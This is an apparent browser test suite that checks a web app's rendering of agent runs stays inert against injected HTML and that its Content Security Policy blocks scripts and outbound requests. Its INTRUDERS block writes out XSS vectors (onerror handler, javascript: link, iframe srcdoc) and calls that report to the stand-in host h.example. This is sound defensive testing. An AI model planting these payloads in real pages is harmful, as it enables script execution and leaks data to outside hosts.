"""Hostile text is inert wherever it can come from: question, model, tool, article, imported run. And were it not,
the page's policy would keep it from running and from reporting."""

from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pytest
from playwright.sync_api import expect

from agentflow_core import RunStore
from tests.browser.conftest import BUSY_MS
from tests.browser.payloads import GROUPS, PAYLOADS, odd_shapes, poisoned, shown
from tests.browser.test_page import answered, ask, open_models

pytestmark = pytest.mark.browser

ELEMENTS = """() => {
  const risky = 'img, script, iframe, object, embed, form, base, meta, link, style, video, math';
  const address = '[src], [href], [action], [srcdoc], [data]';
  const nodes = [...document.querySelectorAll('*')];
  return {
    risky: [...document.querySelectorAll(risky)].map((node) => node.localName),
    handlers: nodes.flatMap((node) => node.getAttributeNames().filter((name) => name.startsWith('on'))),
    addresses: [...document.querySelector('.af').querySelectorAll(address)].map((node) => node.outerHTML),
  };
}"""


@contextmanager
def inert(page: Any, payload: str) -> Iterator[None]:
    """Nothing runs, no element, handler or address appears, and no request but Gradio's own leaves."""
    page.wait_for_selector(".at-ask", state="attached")  # the later one of the page's two scripts has drawn its form
    before = page.evaluate(ELEMENTS)
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    yield
    page.mouse.move(300, 600)
    page.wait_for_timeout(50)
    assert page.evaluate("[window.__xss, ({}).polluted]") == [None, None], payload
    after = page.evaluate(ELEMENTS)
    assert after == before, payload
    assert after["handlers"] == [] and after["addresses"] == [], payload
    assert [url for url in asked if "/gradio_api/" not in url] == [], payload


def open_everything(page: Any) -> None:
    for summary in page.locator(".af-memory summary").all():
        summary.click()
    for button in page.locator(".af-open:visible").all():
        button.click()
    page.wait_for_selector(".af-pane")


def test_in_the_question_the_models_texts_and_a_tools_output(visitor: Any) -> None:
    page = visitor()
    for number, payload in enumerate(GROUPS):
        with inert(page, payload):
            ask(page, f"poison {number}: {payload}")
            expect(page.locator(".af-question")).to_contain_text(shown(payload))
            answered(page)
            for button in page.locator(".af-card[data-card=turn-1] .af-open").all():
                button.click()
            page.wait_for_selector(".af-card[data-card=turn-1] .af-pane")
            page.locator(".af-card[data-card=turn-1] .af-memory summary").click()
            expect(page.locator(".af-answer-text")).to_contain_text(shown(payload))
            expect(page.locator(".af-card[data-card=turn-1] .af-article")).to_contain_text(shown(payload))


def test_in_an_article(visitor: Any) -> None:
    """The real tool reads it from a user's file, the real engine hands it on."""
    page = visitor()
    for number, payload in enumerate(GROUPS):
        with inert(page, payload):
            ask(page, f"article {number}: what does it say?")
            expect(page.locator(".af-question")).to_contain_text(f"article {number}")
            answered(page)
            expect(page.locator(".af-card[data-card=turn-1] .af-article")).to_contain_text(f"Article {number}")
            expect(page.locator(".af-card[data-card=turn-1] .af-article")).to_contain_text(shown(payload))


def test_in_an_imported_run(visitor: Any, store: RunStore) -> None:
    """Every text of the run is the payload, and everything that can be opened is opened."""
    page = visitor()
    for payload in GROUPS:
        run = store.load(poisoned(payload))
        page.goto(page.url.split("?")[0] + f"?run={run}")
        expect(page.locator(".af-question")).to_contain_text(shown(payload))
        with inert(page, payload):
            open_everything(page)
            expect(page.locator(".af-answer-text")).to_contain_text(shown(payload))


def test_an_imported_run_of_odd_shape_is_shown_all_the_same(visitor: Any, store: RunStore) -> None:
    """Data that keeps to the schema but is nothing like what tools give must not stop the page."""
    page = visitor()
    for document in odd_shapes():
        run = store.load(document)
        page.goto(page.url.split("?")[0] + f"?run={run}")
        expect(page.locator(".af-answer-text")).to_contain_text("814 metres")
        with inert(page, document):
            open_everything(page)


def test_in_a_role_string_and_its_refusal(visitor: Any) -> None:
    page = visitor()
    open_models(page)
    field = page.get_by_role("textbox", name="Planner", exact=True)
    for payload in PAYLOADS[:3] + PAYLOADS[-3:]:
        with inert(page, payload):
            field.fill(payload)
            field.blur()
            page.wait_for_timeout(400)
            page.locator("#af-check-planner").click()
            expect(page.locator("#af-status-planner .af-check[data-ok=false]")).to_be_visible()
    assert page.evaluate("window.__xss") is None


ADDED = "document.body.insertAdjacentHTML('beforeend', `%s`);"
SCRIPT = "const s = document.createElement('script'); s.%s; document.head.append(s);"
INTRUDERS = {
    "a script": SCRIPT % "textContent = 'window.__xss=1'",
    "a foreign script": SCRIPT % "src = 'https://h.example/x.js'",
    "a handler": ADDED % '<img src=x onerror="window.__xss=1">',
    "a link": ADDED % '<a id=z href="javascript:window.__xss=1">z</a>' + "document.getElementById('z').click();",
    "a frame": ADDED % '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    "an image that reports": ADDED % '<img src="https://h.example/?key">',
    "a style that reports": ADDED % "<style>body { background: url(https://h.example/b) }</style>",
    "a call that reports": "fetch('https://h.example/?key').catch(() => {});",
    "a form that reports": ADDED % '<form id=f action="https://h.example/"></form>'
    + "document.getElementById('f').submit();",
    "a new base": "document.head.insertAdjacentHTML('afterbegin', '<base href=https://h.example/>');",
    "a worker": "try { new Worker('data:text/javascript,1') } catch {}",
}


def test_what_got_in_would_neither_run_nor_report(chromium: Any, address: str) -> None:
    """The policy alone: each intruder is put into the page by force."""
    page = chromium.new_page()
    page.set_default_timeout(BUSY_MS)
    refused: list[str] = []
    page.on("console", lambda message: refused.append(message.text) if "Content Security" in message.text else None)
    answers: list[str] = []
    page.on("response", lambda response: answers.append(response.url))
    page.goto(address)
    page.wait_for_selector(".af-welcome")
    assert refused == [], "the page itself keeps to its policy"
    for intruder, script in INTRUDERS.items():
        before = len(refused)
        page.evaluate(f"() => {{ {script} }}")
        for _ in range(BUSY_MS // 50):
            page.wait_for_timeout(50)
            if len(refused) > before:
                break
        assert len(refused) > before, f"the browser says that it refused {intruder}"
        assert page.evaluate("window.__xss") is None, intruder
    assert [url for url in answers if "h.example" in url] == []
    page.close()
